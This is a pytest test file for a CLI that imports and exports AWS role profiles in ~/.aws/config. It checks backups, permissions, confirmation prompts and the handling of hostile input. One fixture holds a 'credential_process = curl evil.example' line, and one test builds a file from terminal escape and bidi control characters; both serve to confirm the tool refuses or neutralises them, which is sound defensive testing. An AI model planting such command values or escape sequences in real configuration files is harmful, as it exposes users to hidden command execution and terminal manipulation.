"""`import` and `export`: text to paste, and one block of ~/.aws/config that is asked for first."""

from __future__ import annotations

import json
import re
import shutil
import stat
import subprocess
import sys
import tomllib
from collections.abc import Callable
from pathlib import Path

import pexpect
import pytest
from botocore.session import Session
from tests.patience import PATIENCE

from hatstand.config.load import load_settings

from .conftest import AWS_CONFIG, DATA, DEV, HATSTAND, PROD, SERIAL, Computer

AESR = f"""\
[base]
aws_account_id = 999999999999
[payments-prod-Admin]
role_arn = arn:aws:iam::{PROD}:role/Admin
source_profile = base
color = ff0000
"""
VAULT = f"""\
[profile jump]
mfa_serial = {SERIAL}
mfa_process = touch RAN
[profile prod]
role_arn = arn:aws:iam::{PROD}:role/Admin
source_profile = jump
credential_process = curl evil.example
"""


@pytest.fixture
def synced(tmp_path: Path, settled: Computer) -> Computer:
    """A computer of one's own that has a snapshot already."""
    home = tmp_path / "home"
    shutil.copytree(settled.home, home)
    settled.company.quiet()
    return Computer(home, settled.company)


def config_of(computer: Computer) -> Path:
    return computer.home / ".aws" / "config"


def backups(computer: Computer) -> list[Path]:
    return sorted(config_of(computer).parent.glob("*.bak"))


def on_terminal(computer: Computer, *arguments: str, answer: str) -> tuple[int, str, str]:
    """Run with a terminal, stdout led to a file; return exit code, stdout and the screen."""
    result = computer.home / "stdout"
    child = pexpect.spawn(
        "/bin/bash",
        ["--norc", "-c", f"{' '.join((*HATSTAND, *arguments))} > {result}; echo END $?"],
        env=computer.environ,  # type: ignore[arg-type]
        encoding="utf-8",
        timeout=PATIENCE,
        dimensions=(200, 200),
    )
    child.expect_exact("[y/N] ")
    shown = str(child.before)
    child.sendline(answer)
    child.expect(r"END (\d+)")
    assert child.match is not None
    code, shown = int(child.match[1]), shown + str(child.before)
    child.close()
    return code, result.read_text(), shown


def aws(computer: Computer, *arguments: str) -> str:
    """Run the AWS CLI without a terminal; return what it prints."""
    program = Path(sys.executable).with_name("aws")
    done = subprocess.run(
        [sys.executable, str(program), *arguments],
        env=computer.environ,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def profiles_of(computer: Computer) -> dict[str, dict[str, str]]:
    """Return all profiles as botocore reads them."""
    session = Session()
    session.set_config_variable("config_file", str(config_of(computer)))
    session.set_config_variable("credentials_file", str(computer.home / ".aws/credentials"))
    found = session.full_config["profiles"]
    assert isinstance(found, dict)
    return found


# -- import


def test_import_prints_lines_that_the_settings_take(computer: Computer) -> None:
    settings = computer.home / ".config/hatstand/config.toml"
    before = settings.read_bytes()
    file = computer.write("aesr.ini", AESR)
    done = computer.run("import", str(file))
    assert done.code == 0
    assert "1 role in 1 context" in done.err
    assert "color: left out" in done.err
    assert settings.read_bytes() == before
    assert computer.run("import", str(file)).out == done.out
    settings.write_bytes(before + done.out.encode())
    checked = computer.run("config", "check")
    assert checked.code == 0
    assert checked.err.startswith("no findings: ")
    assert load_settings(settings).contexts[1].name == "base"
    again = computer.run("import", str(file)).out
    assert "# [contexts.base] is in your file already: this adds to it." in again


def test_import_reads_standard_input_and_runs_nothing(computer: Computer) -> None:
    done = computer.run("import", "--from", "aws-config", "--yes", "-", stdin=VAULT)
    assert done.code == 0
    (context,) = tomllib.loads(done.out)["contexts"].values()
    assert context["mfa_process"] == "touch RAN"
    assert context["roles"][0]["mfa"] is True
    assert "standard input:3: [profile jump] mfa_process: kept, as --yes says" in done.err
    assert "[profile prod] credential_process: left out" in done.err
    assert "evil.example" not in done.out + done.err
    assert not Path("RAN").exists()


def test_a_command_needs_an_answer(computer: Computer) -> None:
    file = computer.write("vault.ini", VAULT)
    done = computer.run("import", str(file))
    assert (done.code, done.out) == (4, "")
    assert "there is no terminal" in done.err
    assert "--yes" in done.err


@pytest.mark.parametrize(("answer", "kept"), [("y", True), ("n", False), ("", False)])
def test_on_a_terminal_the_command_is_shown_and_asked_for(
    answer: str, kept: bool, computer: Computer
) -> None:
    file = computer.write("vault.ini", VAULT)
    code, out, shown = on_terminal(computer, "import", str(file), answer=answer)
    assert code == 0
    assert "runs a program: touch RAN" in shown
    assert ("mfa_process" in out) is kept
    assert "Admin" in out


def test_what_is_not_certain_is_not_guessed(computer: Computer) -> None:
    text = f"[profile a]\nrole_arn = arn:aws:iam::{PROD}:role/Admin\n"
    file = computer.write("unclear.ini", text)
    done = computer.run("import", str(file))
    assert (done.code, done.out) == (2, "")
    assert "--from aesr or --from aws-config" in done.err
    assert computer.run("import", "--from", "aesr", str(file)).code == 0
    assert computer.run("import", "--from", "nonsense", str(file)).code == 2
    assert computer.run("import").code == 2


def test_a_file_with_faults_is_refused_line_by_line(computer: Computer) -> None:
    file = computer.write("aesr.ini", AESR + "color = 1\nimage = #x\n")
    done = computer.run("import", str(file))
    assert (done.code, done.out) == (2, "")
    assert f"{file}:7: [payments-prod-Admin]: color is here already, on line 6" in done.err
    assert f"{file}:8: " in done.err


def test_a_hostile_file_moves_no_terminal(computer: Computer) -> None:
    file = computer.home / "\x1b]0;x\x07.ini"
    file.write_text(f"[\x1b[2J\u202ea]\naws_account_id = {PROD}\nrole_name = Ops\nx\x9b = 1\n")
    done = computer.run("import", str(file))
    assert done.code == 0
    for line in (done.out + done.err).splitlines():
        assert line.isprintable()


def test_a_file_that_is_not_there_is_exit_2(computer: Computer) -> None:
    done = computer.run("import", "nowhere.ini")
    assert (done.code, done.out) == (2, "")
    assert "nowhere.ini can't be read: No such file or directory" in done.err


# -- export


def test_the_aws_cli_works_with_what_is_exported(synced: Computer) -> None:
    before = config_of(synced).read_bytes()
    done = synced.run("export", "aws-config", "--yes")
    assert (done.code, done.out) == (0, "")
    after = config_of(synced).read_bytes()
    assert after.startswith(before)
    assert "+[profile payments-prod-ReadOnly]" in done.err
    assert "it is a profile already" in done.err
    names = {"jump", "dev-readonly", "payments-prod-ReadOnly", "Data-Lake-ReadOnly"}
    assert names <= set(profiles_of(synced))
    text = aws(synced, "sts", "get-caller-identity", "--profile", "payments-prod-ReadOnly")
    assert json.loads(text)["Arn"].startswith(f"arn:aws:sts::{PROD}:assumed-role/ReadOnly/")
    assert f"mfa_serial = {SERIAL}" in after.decode()  # of Data Lake's Admin


def test_a_backup_is_told_and_private(synced: Computer) -> None:
    before = config_of(synced).read_bytes()
    config_of(synced).chmod(0o644)
    done = synced.run("export", "aws-config", "--yes")
    (backup,) = backups(synced)
    assert re.fullmatch(r"config\.hatstand-\d{8}T\d{6}Z\.bak", backup.name)
    assert f"what was there before is in {backup}" in done.err
    assert backup.read_bytes() == before
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    assert stat.S_IMODE(config_of(synced).stat().st_mode) == 0o644


def test_a_second_export_changes_nothing_and_asks_nothing(synced: Computer) -> None:
    assert synced.run("export", "aws-config", "--yes").code == 0
    before = config_of(synced).stat()
    done = synced.run("export", "aws-config")
    assert done.code == 0
    assert "is as it should be" in done.err
    after = config_of(synced).stat()
    assert (after.st_mtime_ns, after.st_ino) == (before.st_mtime_ns, before.st_ino)
    assert len(backups(synced)) == 1


def test_without_a_terminal_nothing_is_written(synced: Computer) -> None:
    before = (config_of(synced).read_bytes(), config_of(synced).stat().st_mtime_ns)
    done = synced.run("export", "aws-config")
    assert (done.code, done.out) == (4, "")
    assert "+# BEGIN hatstand acme" in done.err
    assert "Give it with --yes" in done.err
    assert (config_of(synced).read_bytes(), config_of(synced).stat().st_mtime_ns) == before
    assert backups(synced) == []


@pytest.mark.parametrize("answer", ["n", "", "yes please"])
def test_a_no_leaves_the_file_untouched(answer: str, synced: Computer) -> None:
    before = (config_of(synced).read_bytes(), config_of(synced).stat().st_mtime_ns)
    code, out, shown = on_terminal(synced, "export", "aws-config", answer=answer)
    assert (code, out) == (130, "")
    assert "nothing was written" in shown
    assert (config_of(synced).read_bytes(), config_of(synced).stat().st_mtime_ns) == before
    assert backups(synced) == []


def test_a_yes_writes_what_was_shown(synced: Computer) -> None:
    code, out, shown = on_terminal(synced, "export", "aws-config", answer="y")
    assert (code, out) == (0, "")
    written = config_of(synced).read_text().removeprefix(AWS_CONFIG)
    for line in filter(None, written.splitlines()):
        assert f"+{line}" in shown


def test_the_rest_of_the_file_stays_byte_for_byte(synced: Computer) -> None:
    foreign = AWS_CONFIG.replace("\n", "\r\n").encode() + (
        b"\r\n; mine \xe6\x9c\xac\r\n[services local]\r\nsts =\r\n  endpoint_url = http://x\r\n"
        b"[granted_registry_start team]\r\n[profile team]\r\nunknown-key = 1\t\r\n"
        b"[granted_registry_end team]"
    )
    config_of(synced).write_bytes(foreign)
    assert synced.run("export", "aws-config", "--yes").code == 0
    written = config_of(synced).read_bytes()
    assert written.startswith(foreign + b"\r\n")
    assert b"\n" not in written.replace(b"\r\n", b"")
    profiles = profiles_of(synced)
    assert profiles["team"] == {"unknown-key": "1"}
    assert profiles["payments-prod-ReadOnly"]["source_profile"] == "jump"


def test_profiles_of_one_s_own_are_never_changed(synced: Computer) -> None:
    own = f"\n[profile payments-prod-ReadOnly]\nregion = mine\n[profile {DEV}-Admin]\n"
    config_of(synced).write_text(AWS_CONFIG + own)
    synced.write(".aws/credentials", (synced.home / ".aws/credentials").read_text() + "[x]\n")
    assert synced.run("export", "aws-config", "--yes").code == 0
    written = config_of(synced).read_text()
    assert written.startswith(AWS_CONFIG + own)
    assert written.count("[profile payments-prod-ReadOnly]") == 1
    assert f"[profile {PROD}-ReadOnly]" in written


def test_a_role_that_is_gone_goes_from_the_block_too(synced: Computer) -> None:
    assert synced.run("export", "aws-config", "--yes").code == 0
    assert f"role_arn = arn:aws:iam::{DATA}:role/Admin\n" in config_of(synced).read_text()
    settings = synced.home / ".config/hatstand/config.toml"
    settings.write_text(settings.read_text().replace('["Workloads/**"]', '["None/**"]'))
    done = synced.run("export", "aws-config", "--yes")
    assert "-[profile Data-Lake-Admin]" in done.err
    assert f"role_arn = arn:aws:iam::{DATA}:role/Admin\n" not in config_of(synced).read_text()


def test_a_link_is_written_through_and_told(synced: Computer) -> None:
    target = config_of(synced).rename(synced.home / "dotfiles")
    config_of(synced).symlink_to(target)
    done = synced.run("export", "aws-config", "--yes")
    assert done.code == 0
    assert f"{config_of(synced)} is a link: {target} is what is written" in done.err
    assert config_of(synced).is_symlink()
    assert "# END hatstand acme" in target.read_text()
    assert len(backups(synced)) == 1


def test_the_variable_names_another_file(synced: Computer) -> None:
    before = config_of(synced).read_bytes()
    other = synced.home / "elsewhere" / "config"
    done = synced.run(
        "export", "aws-config", "--yes", environ={"AWS_CONFIG_FILE": "~/elsewhere/config"}
    )
    assert done.code == 0
    assert other.read_text().startswith("# BEGIN hatstand acme\n")
    assert stat.S_IMODE(other.stat().st_mode) == 0o600
    assert config_of(synced).read_bytes() == before


def _broken(config: Path) -> None:
    config.write_text(AWS_CONFIG + "no equals sign\n")


def _unmarked(config: Path) -> None:
    config.write_text(AWS_CONFIG + "# BEGIN hatstand acme\n")


@pytest.mark.parametrize("damage", [_broken, _unmarked])
def test_a_file_with_a_fault_is_not_written(
    damage: Callable[[Path], None], synced: Computer
) -> None:
    damage(config_of(synced))
    before = config_of(synced).read_bytes()
    done = synced.run("export", "aws-config", "--yes")
    assert (done.code, done.out) == (2, "")
    assert config_of(synced).read_bytes() == before


def test_settings_on_which_safety_depends_must_be_right(synced: Computer) -> None:
    settings = synced.home / ".config/hatstand/config.toml"
    settings.write_text(settings.read_text() + "[sessions]\nstore = 1\n")
    assert synced.run("export", "aws-config", "--yes").code == 2
    assert "BEGIN hatstand" not in config_of(synced).read_text()


def test_a_lost_snapshot_takes_no_profiles_away(synced: Computer) -> None:
    assert synced.run("export", "aws-config", "--yes").code == 0
    before = config_of(synced).read_bytes()
    shutil.rmtree(synced.home / ".local" / "state")
    done = synced.run("--offline", "export", "aws-config", "--yes")
    assert done.code == 2
    assert "hatstand sync" in done.err
    assert config_of(synced).read_bytes() == before


def test_a_partly_read_organization_takes_no_profiles_away(computer: Computer) -> None:
    operation = "organizations:ListOrganizationalUnitsForParent"
    computer.company.fault(operation, "InvalidInputException", count=0)
    done = computer.run("export", "aws-config", "--yes")
    computer.company.quiet()
    assert (done.code, done.out) == (1, "")
    assert config_of(computer).read_text() == AWS_CONFIG


def test_the_extension_gets_its_lines(synced: Computer) -> None:
    done = synced.run("export", "aesr")
    assert done.code == 0
    assert f"[payments-prod-Admin]\nrole_arn = arn:aws:iam::{PROD}:role/Admin\ncolor = " in done.out
    assert "Vendor" not in done.out
    assert "payments-prod/Vendor: the console can't send an ExternalId" in done.err
    assert synced.run("import", "--from", "aesr", "-", stdin=done.out).code == 0


def test_offline_both_exports_make_no_call(synced: Computer) -> None:
    assert synced.run("--offline", "export", "aesr").out == synced.run("export", "aesr").out
    synced.company.quiet()
    assert synced.run("--offline", "export", "aws-config", "--yes").code == 0
    assert synced.company.calls() == {}


def test_the_demo_writes_into_its_own_home_alone(synced: Computer) -> None:
    before = config_of(synced).read_bytes()
    done = synced.run("--demo", "export", "aws-config", "--yes", without=("AWS_ENDPOINT_URL",))
    assert done.code == 0
    assert config_of(synced).read_bytes() == before
    assert "/hatstand-demo-" in done.err
    assert str(config_of(synced)) not in done.err


@pytest.mark.parametrize("command", [("import",), ("export",), ("export", "aws-config")])
def test_help_says_what_is_written(command: tuple[str, ...], settled: Computer) -> None:
    done = settled.run(*command, "--help")
    assert done.code == 0
    assert done.out.startswith(f"Usage: hatstand {' '.join(command)}")
    assert settled.run("export").code == 2


def test_an_export_assumes_no_role(synced: Computer) -> None:
    assert synced.run("export", "aws-config", "--yes").code == 0
    assert "sts:AssumeRole" not in synced.company.calls()
